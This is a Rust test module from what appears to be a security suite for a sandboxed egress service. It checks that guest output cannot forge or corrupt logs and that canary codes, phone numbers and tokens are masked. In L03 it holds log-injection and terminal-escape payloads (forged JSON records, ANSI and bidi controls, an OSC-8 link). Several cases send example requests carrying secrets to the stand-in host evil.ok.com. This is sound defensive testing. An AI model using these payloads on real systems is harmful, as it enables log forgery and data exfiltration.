//! L: what is written down, and what must not be.

use serde_json::{Value, json};

use crate::area::{Area, Case, RULES, Settings, clipped, ended, log};
use crate::canary::{CODE, NUMBER, TOKEN, spellings_of};

pub(crate) async fn attack(filter: &[String]) -> Vec<crate::area::Row> {
    let mut rows = Vec::new();
    let area = Area::start(filter, Settings::default()).await;
    told_in_logs(&area).await;

    area.case("L03", "log injection: records, links, directions, NUL, 10 kB", async |case| {
        let tenant = case.deploy_probe(RULES).await;
        let evil = [
            "\n{\"level\":\"ERROR\",\"target\":\"egress.decision\",\"fields\":{\"tenant\":\"victim\"}}",
            "\r\n{\"id\":1,\"report\":{\"outcome\":{\"kind\":\"sent\"}}}",
            "\u{1b}]8;;https://evil.ok.com\u{7}click\u{1b}]8;;\u{7}",
            "\u{1b}[2J\u{1b}[1;1H\u{1b}[31mowned",
            "\u{9b}2J\u{85}\u{2028}\u{2029}next",
            "\u{202e}txet\u{2066}isolated\u{2069}\u{200f}",
            "a\u{0}b\u{8}c\u{b}d\u{7f}",
            "\\\",\"level\":\"error\",\"x\":\"",
        ];
        let mut long = "L".repeat(10_000);
        long.push_str("-end");
        let (mut count, mut wrong) = (0, Vec::new());
        for text in evil.iter().copied().chain([long.as_str()]) {
            for command in ["say-json", "print-json", "fail-json", "drop-json"] {
                let answers = case.host().position().0;
                let report = case
                    .attempt(&tenant, &format!("{command} {}", json!(text)), 0)
                    .await;
                // One line for the answer, and it is ours.
                let lines = case.host().answers_since(answers);
                let forged = lines.iter().filter(|line| {
                    let answer: Value = serde_json::from_str(line).unwrap_or_default();
                    !answer["id"].is_u64()
                });
                assert_eq!(forged.count(), 0, "sent {text:?} by {command}\nreceived {lines:#?}");
                let mut texts = log(&report);
                for place in ["/error/message", "/outcome/reason"] {
                    texts.extend(report.pointer(place).and_then(Value::as_str).map(ToOwned::to_owned));
                }
                assert!(!texts.is_empty(), "sent {text:?} by {command}\nreceived {report:#}");
                for said in texts {
                    let steering = said.chars().find(|c| {
                        (c.is_control() && *c != '\t')
                            || matches!(c, '\u{200e}' | '\u{200f}' | '\u{2028}' | '\u{2029}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
                    });
                    if let Some(steering) = steering {
                        wrong.push(format!("sent {text:?} by {command}, received {steering:?} in {said:?}"));
                    }
                    assert!(said.len() <= 4096, "sent {} bytes, received {}", text.len(), said.len());
                }
                count += 1;
            }
        }
        // The program's own log is one object a line.
        for line in case.host().log_since(0) {
            assert!(
                serde_json::from_str::<Value>(&line).is_ok_and(|line| line.is_object()),
                "a line of the log: {line}"
            );
        }
        assert_eq!(case.host().decisions("victim").iter().filter(|record| record["verdict"].is_null()).count(), 0);
        // A tenant's name is the platform's; all the same it stays in its place.
        let tenant = "l03\n{\"level\":\"ERROR\"}";
        case.deploy(tenant, phonebox_test_guests::PROBE.bytes, RULES).await;
        case.attempt(tenant, "send POST https://evil.ok.com/", 1).await;
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
        format!("{count} escaped")
    })
    .await;

    area.case("L05", "the code and the number in a query", async |case| {
        let tenant = case.deploy_probe(RULES).await;
        let digits = NUMBER.trim_start_matches('+');
        let lines: Vec<String> = [
            format!("/api?text={CODE}&to=%2B{digits}"),
            format!("/api?{CODE}"),
            format!("/api?to={NUMBER}#"),
            format!("/missing?text={CODE}"),
        ]
        .iter()
        .map(|path| {
            format!(
                "http {}",
                json!({ "method": "GET", "url": format!("https://evil.ok.com{path}") })
            )
        })
        .collect();
        let report = case.probe(&tenant, &lines).await;
        let arrived = case
            .area
            .evil
            .met
            .with(&format!("GET /api?text={CODE}&to=%2B{digits} "))
            .len();
        assert_eq!(arrived, 1, "received {report:#}");
        let first = &report["exchanges"][0];
        assert_eq!(first["path"], "/api", "received {first:#}");
        let record = &case.host().decided(&tenant, 4).await[0];
        let told = record.to_string();
        assert!(
            !told.contains("text=") && !told.contains('?'),
            "received {told}"
        );
        // The same to a target that no rule allows: the error has a hint with the path in it.
        let denied = format!(
            "http {}",
            json!({ "url": format!("https://other.ok.com/api?text={CODE}") })
        );
        case.probe(&tenant, &[denied]).await;
        "the path alone".to_owned()
    })
    .await;
    rows.extend(area.finish("L").await);

    // The same once more, with everything said that can be.
    let scratch = tempfile::tempdir().unwrap();
    let keys = scratch.path().join("keys");
    let settings = Settings {
        environment: vec![
            ("RUST_LOG".to_owned(), "trace".to_owned()),
            ("RUST_BACKTRACE".to_owned(), "full".to_owned()),
            ("SSLKEYLOGFILE".to_owned(), keys.display().to_string()),
        ],
        arguments: vec!["-vvv".to_owned()],
        ..Settings::default()
    };
    let area = Area::start(filter, settings).await;
    area.case("L06", "RUST_LOG=trace, -vvv, SSLKEYLOGFILE", async |case| {
        let tenant = case.deploy_probe(RULES).await;
        let request = json!({
            "url": format!("https://evil.ok.com/{CODE}?to={NUMBER}"), "body": format!("{CODE} {NUMBER}"),
            "headers": [["authorization", format!("Bearer {TOKEN}")], ["x-code", CODE]],
        });
        let lines = [
            "secret TOKEN".to_owned(),
            format!("http {request}"),
            "http {\"url\":\"https://evil.ok.com/reset\"}".to_owned(),
            format!("http {}", json!({ "url": format!("https://other.ok.com/{CODE}") })),
            format!("http {}", json!({ "url": format!("https://evil.ok.com/{CODE}\\") })),
        ];
        case.probe(&tenant, &lines).await;
        case.attempt(&tenant, "panic 739154208653", 0).await;
        // And a line that is no request, with a secret in it.
        let host = case.host();
        host.say(&format!("{{\"id\":5,\"deploy\":{{\"tenant\":\"x\",\"component\":1,\"secrets\":{{\"TOKEN\":\"{TOKEN}\"}}}}}}")).await;
        host.say(&format!("{{\"id\":6,\"attempt\":{{\"tenant\":\"{tenant}\",\"event\":{{\"notification\":{{\"recipient\":\"x{NUMBER}\",\"code\":{CODE}}}}}}}}}")).await;
        let path = case.area.write("l06-unknown", &crate::area::with_manifest(phonebox_test_guests::PROBE.bytes, RULES));
        let answer = case.upload_file(&tenant, &path, json!({ "UNKNOWN": TOKEN, "TOKEN": TOKEN })).await;
        assert!(answer["error"].is_object(), "received {answer}");
        assert!(!keys.exists(), "TLS keys were written to SSLKEYLOGFILE");
        let (_, lines) = host.position();
        format!("{lines} lines of log, no canary")
    })
    .await;
    rows.extend(area.finish("L06").await);
    rows
}

/// The canaries, told by the guest in every way there is.
async fn told_in_logs(area: &Area) {
    area.case("L01", "the code, the number, a secret told in logs, errors, outcomes", async |case| {
        let tenant = case.deploy_probe(RULES).await;
        let mut count = 0;
        for value in [CODE, NUMBER, &NUMBER[1..], TOKEN] {
            let (quoted, bare) = (json!(format!("it is {value}!")), json!(value));
            for text in [
                format!("say-json {quoted}"),
                format!("say-json {bare}"),
                format!("print-json {quoted}"),
                format!("fail-json {quoted}"),
                format!("drop-json {bare}"),
                format!("retry 1 {value}"),
                format!("sent {value} {value}"),
                format!("panic {value}"),
                format!("secret {value}"),
                format!("say-json {}", json!(format!("{}{value}", "x".repeat(1020)))),
                format!("drop-json {}", json!(format!("{}{value}", "x".repeat(1020)))),
            ] {
                case.attempt(&tenant, &text, 0).await;
                count += 1;
            }
            // In requests that are refused: each error tells what was wrong, and not with what.
            let spoilt = format!("{value} ");
            let lines = [
                json!({ "url": format!("https://evil.ok.com/{value}") }),
                json!({ "url": format!("https://{}.ok.com/", value.trim_start_matches('+').to_lowercase()) }),
                json!({ "url": "https://evil.ok.com/", "headers": [[spoilt, "x"]] }),
                json!({ "url": "https://evil.ok.com/", "headers": [[value, format!("{value}\u{0}")]] }),
                json!({ "url": format!("https://other.ok.com/a/{value}/b") }),
            ];
            for line in lines {
                case.probe(&tenant, &[format!("http {line}")]).await;
                count += 1;
            }
            for line in [
                json!({ "url": format!("{value}://evil.ok.com/") }),
                json!({ "method": value, "url": "https://evil.ok.com/" }),
                json!({ "url": value }),
            ] {
                case.probe(&tenant, &[format!("http {line}")]).await;
                count += 1;
            }
        }
        format!("{count} ways, masked")
    })
    .await;

    area.case(
        "L01 encoded",
        "the same in hexadecimal, base64, percent-encoding, JSON escapes",
        async |case| {
            let tenant = case.deploy_probe(RULES).await;
            let mut shown = Vec::new();
            for (what, value) in [
                ("the code", CODE),
                ("the number", NUMBER),
                ("a secret", TOKEN),
            ] {
                let mut spellings = spellings_of(value);
                spellings.push(("in base64 with a user", base64_of(&format!("user:{value}"))));
                for (how, spelling) in spellings {
                    let report = case
                        .attempt(&tenant, &format!("say-json {}", json!(spelling)), 0)
                        .await;
                    if log(&report)[0].contains(&spelling) {
                        shown.push(format!("{what} {how}: {spelling}"));
                    }
                    case.attempt(&tenant, &format!("fail-json {}", json!(spelling)), 0)
                        .await;
                }
            }
            assert!(
                shown.is_empty(),
                "the guest logged, and the report shows: {shown:#?}"
            );
            "masked".to_owned()
        },
    )
    .await;

    area.case(
        "L01 split",
        "the same in two writes to standard output, and in two log calls",
        async |case| {
            let tenant = case.deploy_probe(RULES).await;
            let mut shown = Vec::new();
            for value in [CODE, NUMBER, TOKEN] {
                let (head, tail) = value.split_at(value.len() / 2);
                let report = case
                    .attempt(
                        &tenant,
                        &format!(
                            "print-json {}\nprint-json {}",
                            json!(head),
                            json!(format!("{tail}\n"))
                        ),
                        0,
                    )
                    .await;
                if log(&report).concat().contains(value) {
                    shown.push(format!("two writes: {:?}", log(&report)));
                }
                let report = case
                    .attempt(
                        &tenant,
                        &format!("say-json {}\nsay-json {}", json!(head), json!(tail)),
                        0,
                    )
                    .await;
                if log(&report).concat().contains(value) {
                    shown.push(format!("two calls: {:?}", log(&report)));
                }
            }
            assert!(shown.is_empty(), "the report shows: {shown:#?}");
            "masked".to_owned()
        },
    )
    .await;

    area.case(
        "L01 national",
        "the number as people write it, the code with spaces (documented)",
        async |case| national(case).await,
    )
    .await;
}

async fn national(case: &Case<'_>) -> String {
    let tenant = case.deploy_probe(RULES).await;
    let mut shown = Vec::new();
    for spelling in [
        "4155550142",
        "(415) 555-0142",
        "415-555-0142",
        "+1 415 555 0142",
        "+1 (415) 555-0142",
        "0014155550142",
        "tel:+1-415-555-0142",
    ] {
        let report = case
            .attempt(&tenant, &format!("say-json {}", json!(spelling)), 0)
            .await;
        ended(spelling, &report, "sent");
        if log(&report)[0].contains(spelling) {
            shown.push(spelling);
        }
    }
    let spaced: Vec<String> = CODE.chars().map(String::from).collect();
    let spaced = spaced.join(" ");
    let report = case
        .attempt(&tenant, &format!("say-json {}", json!(spaced)), 0)
        .await;
    let shown_spaced = log(&report)[0].contains(&spaced);
    let spaced = if shown_spaced {
        "a code with spaces is shown"
    } else {
        "a code with spaces is masked"
    };
    assert!(
        shown.is_empty(),
        "the guest logged, and the report shows: {}",
        clipped(&format!("{shown:#?}"))
    );
    format!("masked; {spaced}")
}

fn base64_of(text: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(text)
}
